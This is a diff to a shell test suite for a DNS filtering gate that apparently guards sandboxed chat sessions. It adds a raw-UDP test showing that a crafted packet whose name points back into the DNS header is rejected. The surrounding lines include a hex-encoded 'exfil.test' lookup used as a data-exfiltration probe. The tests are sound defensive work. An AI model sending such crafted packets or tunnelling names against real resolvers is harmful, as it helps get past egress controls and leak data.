@@ -27,6 +27,19 @@ is "$(ask dns-adv-a --tcp "$GATE" 6c65616b2d74776f.exfil.test)" "REFUSED tc=0 -"
 if upstream_asked 6c65616b2d74776f.exfil.test; then leaked=1; else leaked=0; fi
 is "$leaked" 0 "attack dns/exfil-tcp: nothing reached the upstream"
 is "$(ask dns-adv-a "$GATE" api.test TXT)" "NOERROR tc=0 -" "control: another record type of an allowed name (TXT) goes through"
+# A name the gate reads one way and the upstream another: api.test ending
+# in a pointer to the ID's first byte (0 here, the root; the gate's own ID
+# upstream would make it read on into bytes the chat chose).
+raw_rcode() { # CHAT_ID HEX: the RCODE of the gate's answer to these bytes over UDP
+	in_session "$1" /usr/bin/python3 -c 'import socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(5)
+s.sendto(bytes.fromhex(sys.argv[1]), (sys.argv[2], 53))
+print(s.recv(4096)[3] & 15)' "$2" "$GATE"
+}
+header=004201000001000000000000 api=03617069047465737400
+is "$(raw_rcode dns-adv-a "${header}${api}00010001")" 0 "control: the same bytes with the name ending in the root byte get an answer"
+is "$(raw_rcode dns-adv-a "${header}${api%00}c00000010001")" 1 "attack dns/header-pointer: a name pointing into the header is FORMERR, never forwarded"
 
 # An allowed name that is an alias of a name the chat may not look up.
 is "$("$dns_probe" 127.0.0.10 alias.test)" "NOERROR tc=0 198.51.100.5" "control: the upstream answers alias.test (a CNAME to other.test)"
